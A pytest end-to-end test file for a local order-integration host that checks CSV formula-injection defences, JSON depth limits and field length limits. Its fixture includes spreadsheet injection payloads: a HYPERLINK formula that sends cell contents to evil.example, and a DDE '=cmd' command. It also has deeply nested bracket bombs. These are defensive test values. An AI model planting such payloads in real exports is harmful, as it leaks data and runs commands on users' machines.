"""Hostile values through the real local host on 127.0.0.1 (docs/input-limits.md): a SKU map CSV export that no
spreadsheet runs as formulas and that reads back unchanged; bodies nested past the JSON depth limit; ids, SKUs and
names past their length limits. Every refusal is problem+json 400 and changes no state."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from local.host import RunningHost
from shared.channels.common import MAX_JSON_DEPTH
from shared.domain.limits import MAX_ID_BYTES, MAX_NAME_CHARACTERS, MAX_SKU_BYTES
from tests.e2e.test_fuzz_http import call, signed, snapshot, wait_until_idle
from tests.support import fixture_json, in_process_host, write_store_file

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
QUOTED_ROW = re.compile(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*')
# SKUs and item codes a spreadsheet would run, and real SKUs that merely start like a formula.
HOSTILE_MAP = {
    "-BLUE-MUG": "MUG-001",
    "+34-TEA-POT": "-TEAPOT-RED",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "X-1",
    "@SUM(A1:A9)": "=cmd|' /C calc'!A0",
    "a;=1+1": "SEMICOLON",  # Excel in Spanish splits on ";": the quotes keep it one cell
    "'-QUOTED": "QUOTE-1",  # a SKU that really starts with the text mark survives too
    "BLUE-MUG-350ML": "MUG-BLUE-350",
    "TEE-ORG-M:815": "TEE-M",
}


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningHost]:
    base = tmp_path_factory.mktemp("hostile-host")
    stores = base / "stores"
    stores.mkdir()
    write_store_file(stores, "demo-woo", "woocommerce", sku_map={"BLUE-MUG-350ML": "MUG-1", "TEE-ORG-M": "TEE-M"})
    write_store_file(stores, "demo-shopify", "shopify")
    with in_process_host(base, stores, LOCAL_BUS_BACKOFF_BASE="0.2") as running:
        yield running


def problem(answer: tuple[int, dict[str, str], bytes], status: int = 400) -> dict[str, Any]:
    code, headers, body = answer
    assert code == status, body
    assert headers["content-type"] == "application/problem+json"
    refusal: dict[str, Any] = json.loads(body)
    assert refusal["status"] == status
    return refusal


def nest(depth: int) -> Any:
    """A JSON value `depth` levels deep: [[[…]]]."""
    value: Any = []
    for _ in range(depth - 1):
        value = [value]
    return value


def woo_order(order_id: int, **changes: Any) -> dict[str, Any]:
    document = fixture_json("woocommerce", "order_created")
    document.update(id=order_id, **changes)
    return document


def deliver(host: RunningHost, document: dict[str, Any], channel: str = "woocommerce") -> tuple[int, dict, bytes]:
    body = json.dumps(document).encode()
    topic, store = ("order.created", "demo-woo") if channel == "woocommerce" else ("orders/create", "demo-shopify")
    return call(host, "POST", f"/api/webhooks/{channel}/{store}", body, signed(body, topic))


def order_detail(host: RunningHost, order_id: object) -> dict[str, Any]:
    wait_until_idle(host)
    status, _, body = call(host, "GET", f"/api/orders/demo-woo/{order_id}")
    assert status == 200, body
    detail: dict[str, Any] = json.loads(body)
    return detail


# -- the SKU map CSV ---------------------------------------------------------------------------------------


def test_csv_export_opens_in_a_spreadsheet_as_text_and_reads_back_unchanged(host: RunningHost) -> None:
    path = "/api/stores/demo-shopify/sku-map"
    uploaded = call(host, "PUT", path, json.dumps(HOSTILE_MAP).encode(), {"Content-Type": "application/json"})
    assert uploaded[0] == 200, uploaded[2]
    status, headers, body = call(host, "GET", path)
    assert status == 200 and headers["content-type"].startswith("text/csv")
    header, *rows = body.decode().splitlines()
    assert header == "sku,variant_id,product_id,item_code" and len(rows) == len(HOSTILE_MAP)
    for row in rows:
        assert QUOTED_ROW.fullmatch(row), row  # every cell quoted: a separator inside cannot start a new cell
        for cell in next(csv.reader(io.StringIO(row))):
            assert not cell.startswith(FORMULA_STARTS), row
    assert '"\'-BLUE-MUG","","","MUG-001"' in rows and '"\'@SUM(A1:A9)","","","\'=cmd|\' /C calc\'!A0"' in rows
    # What a merchant does next: edit the file, upload it again. Nothing may change on the way.
    assert call(host, "PUT", path, body, {"Content-Type": "text/csv"})[0] == 200
    status, _, again = call(host, "GET", f"{path}?format=json")
    assert status == 200 and json.loads(again) == HOSTILE_MAP


def test_csv_written_by_hand_without_the_text_mark_keeps_its_leading_minus(host: RunningHost) -> None:
    path = "/api/stores/demo-shopify/sku-map"
    csv_body = b"sku,variant_id,item_code\n-BLUE-MUG,,MUG-001\n'-RED-MUG,,'+MUG-002\n"
    assert call(host, "PUT", path, csv_body, {"Content-Type": "text/csv"})[0] == 200
    status, _, body = call(host, "GET", f"{path}?format=json")
    assert status == 200 and json.loads(body) == {"-BLUE-MUG": "MUG-001", "-RED-MUG": "+MUG-002"}


# -- JSON depth --------------------------------------------------------------------------------------------


def too_deep_order(channel: str) -> bytes:
    document = fixture_json(channel, "order_created" if channel == "woocommerce" else "orders_create")
    document["id"] = 777_001 if channel == "woocommerce" else 777_002
    document["note_attributes" if channel == "shopify" else "meta_data"] = nest(MAX_JSON_DEPTH)  # one level over
    return json.dumps(document).encode()


@pytest.mark.parametrize(
    ("method", "path", "body", "headers"),
    [
        ("POST", "/api/webhooks/woocommerce/demo-woo", too_deep_order("woocommerce"), "order.created"),
        ("POST", "/api/webhooks/shopify/demo-shopify", too_deep_order("shopify"), "orders/create"),
        ("POST", "/api/simulate/demo-woo", too_deep_order("woocommerce"), None),
        ("PUT", "/api/stores/demo-woo/sku-map", json.dumps([{"sku": "A", "item_code": "B", "x": nest(70)}]), None),
        ("PUT", "/api/stores/demo-woo/sku-map", "[" * 100_000, None),  # past the interpreter's recursion limit
        ("POST", "/api/webhooks/woocommerce/demo-woo", b'{"id": 5123, "line_items": ' + b"[" * 50_000, "order.created"),
    ],
    ids=["woocommerce webhook", "shopify webhook", "simulate", "sku-map json", "sku-map brackets", "webhook brackets"],
)
def test_body_nested_past_the_limit_is_refused_400_and_changes_nothing(
    host: RunningHost, method: str, path: str, body: bytes | str, headers: str | None
) -> None:
    raw = body.encode() if isinstance(body, str) else body
    request_headers = signed(raw, headers) if headers else {"Content-Type": "application/json"}
    before = snapshot(host)
    refusal = problem(call(host, method, path, raw, request_headers))
    assert refusal["title"] == "JSON nested too deeply"
    assert f"the limit is {MAX_JSON_DEPTH}" in refusal["detail"]
    assert snapshot(host) == before


def test_order_nested_up_to_the_limit_is_accepted(host: RunningHost) -> None:
    document = woo_order(777_003)
    document["meta_data"].append({"id": 1, "key": "_plugin_data", "value": nest(MAX_JSON_DEPTH - 3)})  # 64 levels
    assert deliver(host, document)[0] == 202
    detail = order_detail(host, 777_003)
    assert detail["state"] == "invoiced", detail["problems"]


# -- lengths -----------------------------------------------------------------------------------------------


def test_order_id_over_the_limit_is_refused_400_naming_it_and_changes_nothing(host: RunningHost) -> None:
    for channel in ("woocommerce", "shopify"):
        document = fixture_json(channel, "order_created" if channel == "woocommerce" else "orders_create")
        document["id"] = int("9" * (MAX_ID_BYTES + 1))
        before = snapshot(host)
        refusal = problem(deliver(host, document, channel))
        assert refusal["detail"].startswith("id: ") and f"the limit is {MAX_ID_BYTES} bytes" in refusal["detail"]
        assert snapshot(host) == before


def test_order_id_at_the_limit_is_processed(host: RunningHost) -> None:
    order_id = int("7" * MAX_ID_BYTES)  # 64 digits: the session id "demo-woo/<id>" is 73 characters
    assert deliver(host, woo_order(order_id))[0] == 202
    detail = order_detail(host, order_id)
    assert detail["state"] == "invoiced", detail["problems"]


@pytest.mark.parametrize(
    ("field", "rows", "where"),
    [
        ("sku", [("BLUE-MUG-350ML", "", "MUG-1"), ("S" * (MAX_SKU_BYTES + 1), "", "MUG-2")], "row 3"),
        ("sku", [("Ñ" * (MAX_SKU_BYTES // 2 + 1), "", "MUG-2")], "row 2"),  # bytes, not characters
        ("item_code", [("BLUE-MUG-350ML", "", "C" * 101)], "row 2"),
        ("variant_id", [("BLUE-MUG-350ML", "8" * (MAX_ID_BYTES + 1), "MUG-1")], "row 2"),
    ],
)
def test_sku_map_row_over_a_limit_is_refused_400_naming_the_row_and_nothing_is_stored(
    host: RunningHost, field: str, rows: list[tuple[str, str, str]], where: str
) -> None:
    path = "/api/stores/demo-woo/sku-map"
    lines = "".join(f"{sku},{variant},{code}\n" for sku, variant, code in rows)
    before = snapshot(host)
    refusal = problem(call(host, "PUT", path, f"sku,variant_id,item_code\n{lines}".encode(), {}))
    assert refusal["detail"].startswith(f"{where}: {field}: ") and "the limit is" in refusal["detail"]
    assert snapshot(host) == before


@pytest.mark.parametrize(
    ("order_id", "change", "field"),
    [
        (777_010, lambda line: line.update(sku="S" * (MAX_SKU_BYTES + 1)), "line sku"),
        (777_011, lambda line: line.update(name="Blue mug " * (MAX_NAME_CHARACTERS // 9 + 1)), "line name"),
    ],
)
def test_signed_order_with_an_over_long_sku_or_name_is_held_naming_field_and_limit_not_cut(
    host: RunningHost, order_id: int, change: Any, field: str
) -> None:
    document = woo_order(order_id)
    change(document["line_items"][0])
    assert deliver(host, document)[0] == 202  # the store does not resend a refused order: hold it instead
    detail = order_detail(host, order_id)
    assert detail["state"] == "held"
    [reason] = detail["problems"]
    assert reason["code"] == "unreadable_order" and reason["field"] == field
    assert "the limit is" in reason["found"]


def test_simulating_an_order_with_an_over_long_buyer_name_is_refused_400_naming_it(host: RunningHost) -> None:
    document = woo_order(777_020)
    document["billing"]["company"] = "Cerámica " * 120
    refusal = problem(call(host, "POST", "/api/simulate/demo-woo", json.dumps(document).encode(), {}))
    assert refusal["detail"].startswith("address company: ")
    assert f"the limit is {MAX_NAME_CHARACTERS} characters" in refusal["detail"]
